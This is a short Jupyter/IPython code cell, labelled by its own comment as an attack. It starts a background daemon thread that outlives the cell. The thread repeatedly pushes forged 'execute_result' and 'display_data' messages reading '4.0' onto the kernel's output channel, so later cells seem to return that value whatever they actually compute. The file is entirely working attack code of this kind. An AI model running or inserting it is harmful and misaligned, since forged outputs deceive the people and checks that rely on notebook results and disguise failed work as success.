# attack: threads go on after the cell has ended, and send results for whatever runs then
# %% cell
import threading, time
from IPython import get_ipython
def forge():
    kernel = getattr(get_ipython(), "kernel", None)
    while kernel is not None:
        try:
            parent = kernel.get_parent("shell")
            for kind in ("execute_result", "display_data"):
                kernel.session.send(kernel.iopub_socket, kind,
                    content={"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1},
                    parent=parent, ident=b"execute_result")
        except Exception:
            pass
        time.sleep(0.02)
threading.Thread(target=forge, daemon=True).start()
